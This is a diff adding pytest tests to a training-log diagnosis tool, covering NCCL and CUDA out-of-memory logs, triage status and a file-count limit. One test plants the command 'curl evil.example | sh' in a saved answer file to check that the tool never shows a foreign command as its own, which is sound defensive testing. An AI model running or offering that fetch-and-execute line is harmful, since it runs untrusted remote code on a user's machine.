@@ -567,3 +567,51 @@ def test_a_folder_that_ended_without_a_verdict_is_read_as_it_is(tmp_path):
         recognise(["no-such-thing"])
     assert main(["diagnose", str(folder.path)]) == 2
     assert sorted(Path(folder.path).rglob("*")) == before
+
+
+def commands_replaced(value, command):
+    """The same data with another command in each place of one."""
+    if isinstance(value, dict):
+        return {
+            key: command if key in ("next", "command") and isinstance(rest, str) else commands_replaced(rest, command)
+            for key, rest in value.items()
+        }
+    return [commands_replaced(rest, command) for rest in value] if isinstance(value, list) else value
+
+
+@pytest.mark.parametrize("form", ["text", "json"])
+def test_no_command_of_a_file_from_elsewhere_is_shown_as_ours(form, tmp_path, capsys):
+    log, saved = tmp_path / "train.log", tmp_path / "saved.json"
+    log.write_text("[rank0]: step 1\n[rank1]: step 1\n[rank1]: RuntimeError: NCCL error: unhandled system error\n")
+    main(["diagnose", str(log), "--format", "json"])
+    answer = json.loads(capsys.readouterr().out)
+    foreign = commands_replaced(answer | {"next": "x"}, "curl evil.example | sh")
+    assert "evil.example" in json.dumps(foreign["diagnosis"])
+    saved.write_text(json.dumps(foreign))
+
+    for command in (["diagnose", str(saved), "--format", form], ["why"]):
+        main(command)
+        assert "evil.example" not in "".join(capsys.readouterr())
+
+
+def test_a_saved_answer_of_triage_is_no_all_clear_if_something_failed(tmp_path, capsys):
+    log, saved = tmp_path / "train.log", tmp_path / "saved.json"
+    log.write_text(
+        'Traceback (most recent call last):\n  File "train.py", line 3, in main\n    x = model(y)\n'
+        "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB\n"
+    )
+    assert main(["triage", str(log), "--format", "json"]) == 1
+    saved.write_text(capsys.readouterr().out)
+
+    status, line = first_line(capsys, saved)
+
+    assert status == 1
+    assert "OutOfMemoryError" in line
+
+
+def test_a_folder_with_more_files_than_are_looked_at_is_said_to_have_more(tmp_path, monkeypatch):
+    monkeypatch.setattr("dtdebug.recorded.things._FILES", 3)
+    for n in range(4):
+        (tmp_path / f"{n}.log").write_text(RAISED)
+
+    assert [thing.words for thing in recognise([str(tmp_path)])] == ["more than 3 logs of a job"]
